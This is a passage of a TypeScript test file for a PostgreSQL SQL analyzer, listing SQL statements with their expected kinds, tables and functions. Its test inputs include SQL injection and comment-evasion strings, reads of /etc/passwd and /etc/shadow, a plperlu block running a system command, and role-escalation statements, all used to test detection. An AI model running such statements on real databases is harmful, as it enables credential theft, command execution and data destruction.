  { sql: 'DROP RULE r ON t', kinds: ['drop_rule'], written: ['t'] },
  { sql: 'DROP EVENT TRIGGER et', kinds: ['drop_event_trigger'] },
  { sql: 'DROP SERVER srv', kinds: ['drop_server'] },
  { sql: 'DROP FOREIGN DATA WRAPPER w', kinds: ['drop_foreign_data_wrapper'] },
  { sql: 'DROP USER MAPPING FOR bob SERVER srv', kinds: ['drop_user_mapping'] },
  { sql: 'DROP PUBLICATION pub', kinds: ['drop_publication'] },
  { sql: 'DROP SUBSCRIPTION sub', kinds: ['drop_subscription'] },
  { sql: 'DROP TABLESPACE ts', kinds: ['drop_tablespace'] },
  { sql: 'DROP CAST (text AS int)', kinds: ['drop_cast'] },
  { sql: 'DROP OPERATOR === (int, int)', kinds: ['drop_operator'] },
  { sql: 'DROP LANGUAGE plperlu', kinds: ['drop_language'] },
  { sql: 'DROP TEXT SEARCH CONFIGURATION c', kinds: ['drop_text_search'] },
  { sql: 'DROP STATISTICS st', kinds: ['drop_statistics'] },
  { sql: 'DROP COLLATION c', kinds: ['drop_collation'] },
  { sql: 'DROP OPERATOR CLASS oc USING btree', kinds: ['drop_operator_class'] },
  { sql: 'DROP OPERATOR FAMILY opf USING btree', kinds: ['drop_operator_family'] },
  { sql: 'DROP CONVERSION c', kinds: ['drop_conversion'] },
  { sql: 'DROP TRANSFORM FOR int LANGUAGE sql', kinds: ['drop_transform'] },
  { sql: 'DROP ACCESS METHOD am', kinds: ['drop_access_method'] },
  { sql: 'DROP OWNED BY bob', kinds: ['drop_owned'] },
  { sql: 'TRUNCATE t', kinds: ['truncate'], written: ['t'] },
  { sql: 'TRUNCATE TABLE a, s.b RESTART IDENTITY CASCADE', kinds: ['truncate'], written: ['a', 's.b'] },
];

const PRIVILEGES_AND_METADATA: readonly Case[] = [
  { sql: 'GRANT SELECT ON t TO bob', kinds: ['grant'], written: ['t'] },
  { sql: 'GRANT SELECT, UPDATE (a) ON TABLE t, s.u TO bob WITH GRANT OPTION', kinds: ['grant'], written: ['t', 's.u'] },
  { sql: 'GRANT ALL ON ALL TABLES IN SCHEMA s TO bob', kinds: ['grant'] },
  { sql: 'GRANT EXECUTE ON FUNCTION f() TO PUBLIC', kinds: ['grant'] },
  { sql: 'REVOKE INSERT ON t FROM bob', kinds: ['revoke'], written: ['t'] },
  { sql: 'GRANT admin TO bob', kinds: ['grant_role'] },
  { sql: 'GRANT pg_read_server_files TO bob WITH ADMIN OPTION', kinds: ['grant_role'] },
  { sql: 'REVOKE admin FROM bob', kinds: ['revoke_role'] },
  { sql: 'REASSIGN OWNED BY a TO b', kinds: ['reassign_owned'] },
  { sql: "COMMENT ON TABLE s.t IS 'x'", kinds: ['comment'], written: ['s.t'] },
  { sql: "COMMENT ON COLUMN t.c IS 'x'", kinds: ['comment'], written: ['t'] },
  { sql: "COMMENT ON FUNCTION f() IS 'x'", kinds: ['comment'] },
  { sql: "SECURITY LABEL ON TABLE t IS 'secret'", kinds: ['security_label'], written: ['t'] },
  { sql: 'IMPORT FOREIGN SCHEMA remote FROM SERVER srv INTO local', kinds: ['import_foreign_schema'] },
];

const SESSION_AND_TRANSACTIONS: readonly Case[] = [
  { sql: 'SET search_path = evil, public', kinds: ['set'] },
  { sql: "SET LOCAL statement_timeout = '1s'", kinds: ['set'] },
  { sql: 'SET TIME ZONE UTC', kinds: ['set'] },
  { sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', kinds: ['set'] },
  { sql: 'SET CONSTRAINTS ALL DEFERRED', kinds: ['set'] },
  { sql: 'RESET search_path', kinds: ['reset'] },
  { sql: 'RESET ALL', kinds: ['reset'] },
  { sql: 'SET ROLE admin', kinds: ['set_role'] },
  { sql: 'SET LOCAL ROLE admin', kinds: ['set_role'] },
  { sql: 'SET role TO admin', kinds: ['set_role'] },
  // GUC names are case-insensitive: a quoted upper-case name is still the role.
  { sql: 'SET "ROLE" TO admin', kinds: ['set_role'] },
  { sql: 'RESET ROLE', kinds: ['set_role'] },
  { sql: 'SET SESSION AUTHORIZATION postgres', kinds: ['set_session_authorization'] },
  { sql: 'SET session_authorization = postgres', kinds: ['set_session_authorization'] },
  { sql: 'RESET SESSION AUTHORIZATION', kinds: ['set_session_authorization'] },
  { sql: 'SHOW search_path', kinds: ['show'] },
  { sql: 'SHOW ALL', kinds: ['show'] },
  { sql: 'DISCARD ALL', kinds: ['discard', 'set_session_authorization'] },
  { sql: 'DISCARD PLANS', kinds: ['discard'] },
  { sql: "LOAD 'auto_explain'", kinds: ['load'] },
  { sql: 'LISTEN chan', kinds: ['listen'] },
  { sql: "NOTIFY chan, 'payload'", kinds: ['notify'] },
  { sql: 'UNLISTEN *', kinds: ['unlisten'] },
  { sql: 'BEGIN', kinds: ['begin'] },
  { sql: 'START TRANSACTION READ ONLY', kinds: ['begin'] },
  { sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE', kinds: ['begin'] },
  { sql: 'COMMIT', kinds: ['commit'] },
  { sql: 'END', kinds: ['commit'] },
  { sql: 'COMMIT AND CHAIN', kinds: ['commit'] },
  { sql: 'ROLLBACK', kinds: ['rollback'] },
  { sql: 'ABORT', kinds: ['rollback'] },
  { sql: 'SAVEPOINT a', kinds: ['savepoint'] },
  { sql: 'RELEASE SAVEPOINT a', kinds: ['release_savepoint'] },
  { sql: 'ROLLBACK TO SAVEPOINT a', kinds: ['rollback_to_savepoint'] },
  { sql: "PREPARE TRANSACTION 'gx'", kinds: ['prepare_transaction'] },
  { sql: "COMMIT PREPARED 'gx'", kinds: ['commit_prepared'] },
  { sql: "ROLLBACK PREPARED 'gx'", kinds: ['rollback_prepared'] },
  { sql: 'DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', kinds: ['declare_cursor', 'select'], read: ['t'] },
  { sql: 'FETCH 10 FROM c', kinds: ['fetch'] },
  { sql: 'FETCH ALL IN c', kinds: ['fetch'] },
  { sql: 'MOVE LAST IN c', kinds: ['move'] },
  { sql: 'CLOSE c', kinds: ['close_cursor'] },
  { sql: 'CLOSE ALL', kinds: ['close_cursor'] },
];

const MAINTENANCE_AND_CODE: readonly Case[] = [
  { sql: 'VACUUM', kinds: ['vacuum'] },
  { sql: 'VACUUM FULL t', kinds: ['vacuum'], read: ['t'] },
  { sql: 'VACUUM (ANALYZE, VERBOSE) t (a)', kinds: ['vacuum', 'analyze'], read: ['t'] },
  { sql: 'VACUUM (ANALYZE false) t', kinds: ['vacuum'], read: ['t'] },
  { sql: 'ANALYZE s.t', kinds: ['analyze'], read: ['s.t'] },
  { sql: 'CLUSTER t USING i', kinds: ['cluster'], read: ['t'] },
  { sql: 'REINDEX TABLE t', kinds: ['reindex'], read: ['t'] },
  { sql: 'REINDEX DATABASE d', kinds: ['reindex'] },
  { sql: 'CHECKPOINT', kinds: ['checkpoint'] },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', kinds: ['lock'], read: ['t'] },
  { sql: 'LOCK a, s.b', kinds: ['lock'], read: ['a', 's.b'] },
  { sql: 'DO $$ BEGIN PERFORM pg_sleep(1); DROP TABLE t; END $$', kinds: ['do'] },
  { sql: "DO LANGUAGE plperlu $x$ system('id') $x$", kinds: ['do'] },
  { sql: 'CALL p()', kinds: ['call'], functions: ['p'] },
  { sql: 'CALL s.p(1, f(2))', kinds: ['call'], functions: ['s.p', 'f'] },
];

const FUNCTIONS: readonly Case[] = [
  { sql: "SELECT pg_read_file('/etc/passwd')", kinds: ['select'], functions: ['pg_read_file'] },
  { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", kinds: ['select'], functions: ['pg_catalog.pg_read_file'] },
  { sql: "SELECT * FROM pg_ls_dir('.')", kinds: ['select'], functions: ['pg_ls_dir'] },
  { sql: "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", kinds: ['select'], functions: ['dblink'] },
  { sql: "SELECT lo_import('/etc/shadow')", kinds: ['select'], functions: ['lo_import'] },
  { sql: "SELECT set_config('role', 'admin', false)", kinds: ['select'], functions: ['set_config'] },
  { sql: 'SELECT * FROM t WHERE id IN (SELECT f(id) FROM u)', kinds: ['select'], read: ['t', 'u'], functions: ['f'] },
  { sql: 'WITH x AS (SELECT hidden() AS v) SELECT v FROM x', kinds: ['select'], functions: ['hidden'] },
  { sql: 'SELECT * FROM t, LATERAL lat(t.a) l', kinds: ['select'], read: ['t'], functions: ['lat'] },
  { sql: 'SELECT * FROM ROWS FROM (f1(), f2()) AS r', kinds: ['select'], functions: ['f1', 'f2'] },
  { sql: 'SELECT * FROM generate_series(1, 3) WITH ORDINALITY', kinds: ['select'], functions: ['generate_series'] },
  { sql: 'SELECT count(*) FILTER (WHERE g(x)) FROM t', kinds: ['select'], read: ['t'], functions: ['count', 'g'] },
  { sql: 'SELECT array_agg(a ORDER BY h(a)) FROM t', kinds: ['select'], read: ['t'], functions: ['array_agg', 'h'] },
  { sql: 'SELECT "MixedCase"(1), "s"."F"()', kinds: ['select'], functions: ['MixedCase', 's.F'] },
  { sql: 'SELECT UPPER(x), LoWeR(y) FROM t', kinds: ['select'], read: ['t'], functions: ['upper', 'lower'] },
  // Operators and casts are not function calls.
  { sql: "SELECT 1 + 2, 'a'::text, CAST(1 AS bigint), x IS NULL FROM t", kinds: ['select'], read: ['t'] },
  // SQL-standard syntax the parser turns into pg_catalog calls.
  { sql: "SELECT EXTRACT(year FROM now()), SUBSTRING('abc' FROM 2)", kinds: ['select'], functions: ['pg_catalog.extract', 'now', 'pg_catalog.substring'] },
];

const IDENTIFIERS: readonly Case[] = [
  { sql: 'SELECT * FROM Users', kinds: ['select'], read: ['users'] },
  { sql: 'SELECT * FROM "Users"', kinds: ['select'], read: ['Users'] },
  { sql: 'SELECT * FROM "My Schema"."Tab le"', kinds: ['select'], read: ['My Schema.Tab le'] },
  { sql: 'SELECT * FROM U&"d\\0061ta"', kinds: ['select'], read: ['data'] },
  { sql: 'SELECT * FROM U&"!0044ROP" UESCAPE \'!\'', kinds: ['select'], read: ['DROP'] },
  { sql: 'SELECT * FROM "select"', kinds: ['select'], read: ['select'] },
  { sql: 'DELETE FROM "DROP TABLE users" WHERE true', kinds: ['delete'], read: ['DROP TABLE users'], written: ['DROP TABLE users'] },
  { sql: 'SELECT * FROM mydb.s.t', kinds: ['select'], read: ['s.t'] },
  { sql: 'SELECT * FROM PUBLIC.T', kinds: ['select'], read: ['public.t'] },
];

const EVASION: readonly Case[] = [
  { sql: "SELECT 'DROP TABLE users'", kinds: ['select'] },
  { sql: "SELECT 'x'';DROP TABLE users;--'", kinds: ['select'] },
  { sql: 'SELECT 1 -- ; DROP TABLE x', kinds: ['select'] },
  { sql: 'SELECT 1 /* ; DROP TABLE x */', kinds: ['select'] },
  { sql: 'SELECT /* /* nested */ DROP TABLE x; */ 1', kinds: ['select'] },
  { sql: '/* leading */ -- line\nSELECT 1', kinds: ['select'] },
  { sql: 'SELECT $x$ DROP TABLE t $x$', kinds: ['select'] },
  { sql: 'SELECT $$;DELETE FROM t;$$', kinds: ['select'] },
  { sql: "SELECT $a$ $b$ ' $b$ $a$", kinds: ['select'] },
  { sql: "SELECT E'it\\'s; DROP TABLE t; --'", kinds: ['select'] },
  { sql: "SELECT E'\\x44ROP TABLE t'", kinds: ['select'] },
  { sql: "SELECT U&'\\0044ROP TABLE t'", kinds: ['select'] },
  { sql: 'SeLeCt\t*\nFrOm\r\n  UsErS', kinds: ['select'], read: ['users'] },
  { sql: '\n\t  DELETE\n\tFROM\tt\n', kinds: ['delete'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'SELECT * FROM t WHERE a = \'; DELETE FROM t\'', kinds: ['select'], read: ['t'] },
  { sql: 'SELECT "; DROP TABLE t; --" FROM t', kinds: ['select'], read: ['t'] },
  { sql: "SELECT 'a' -- comment with 'quote\n || 'b'", kinds: ['select'] },
  { sql: 'DELETE/**/FROM/**/t', kinds: ['delete'], read: ['t'], written: ['t'], unbounded: true },
  { sql: 'DELETE FROM t WHERE 1 = 1', kinds: ['delete'], read: ['t'], written: ['t'] },
  { sql: ";;SELECT 1;;", kinds: ['select'] },
];

const GROUPS: Readonly<Record<string, readonly Case[]>> = {
  queries: QUERIES,
  'data changes': DATA_CHANGES,
  'common table expressions': CTES,
  'EXPLAIN, PREPARE, EXECUTE': EXPLAIN_PREPARE,
  'CREATE TABLE AS, SELECT INTO, COPY': CREATE_AS_AND_COPY,
  CREATE,
  ALTER,
  'DROP and TRUNCATE': DROP,
  'privileges and metadata': PRIVILEGES_AND_METADATA,
  'session and transactions': SESSION_AND_TRANSACTIONS,
  'maintenance and code': MAINTENANCE_AND_CODE,
  functions: FUNCTIONS,
  identifiers: IDENTIFIERS,
  'evasion attempts': EVASION,
};

const ALL_CASES = Object.values(GROUPS).flat();

const tableName = (t: TableRef): string => (t.schema === undefined ? t.name : `${t.schema}.${t.name}`);
const sorted = (names: readonly string[]): readonly string[] => [...names].sort();

let analyzer: SqlAnalyzer;
beforeAll(async () => {
  analyzer = await SqlAnalyzer.create({ cacheSize: 0 });
});

function only(sql: string): StatementAnalysis {
  const result = analyzer.analyze(sql);
  if (!result.ok) throw new Error(`${result.code}: ${result.message}`);
  expect(result.statements).toHaveLength(1);
  return result.statements[0]!;
}

describe('sql analysis cases', () => {
  it('has at least 170 of them', () => {
    expect(ALL_CASES.length).toBeGreaterThanOrEqual(170);
  });

  for (const [group, cases] of Object.entries(GROUPS)) {
    describe(group, () => {
      it.each(cases)('$sql', (c) => {
        const s = only(c.sql);
        expect(s.kinds).toEqual(c.kinds);
        expect(sorted(s.tablesRead.map(tableName))).toEqual(sorted(c.read ?? []));
        expect(sorted(s.tablesWritten.map(tableName))).toEqual(sorted(c.written ?? []));
        expect(sorted(s.functions.map(tableName))).toEqual(sorted(c.functions ?? []));
        expect(s.unboundedWrite).toBe(c.unbounded ?? false);
        if (c.columns !== undefined) {
          const columns = s.columnsRead.map((col) => [col.schema, col.table, col.column].filter((p) => p !== undefined).join('.'));
          expect(sorted(columns)).toEqual(sorted(c.columns));
        }
      });
    });
  }

  it('covers every statement kind but the fallbacks, which no statement PostgreSQL 18 has reaches', () => {
    const seen = new Set<StatementKind>(ALL_CASES.flatMap((c) => c.kinds));
    const fallbacks = new Set<StatementKind>(['create_other', 'alter_other', 'drop_other', 'other']);
    expect(STATEMENT_KINDS.filter((kind) => !seen.has(kind) && !fallbacks.has(kind))).toEqual([]);
  });
});
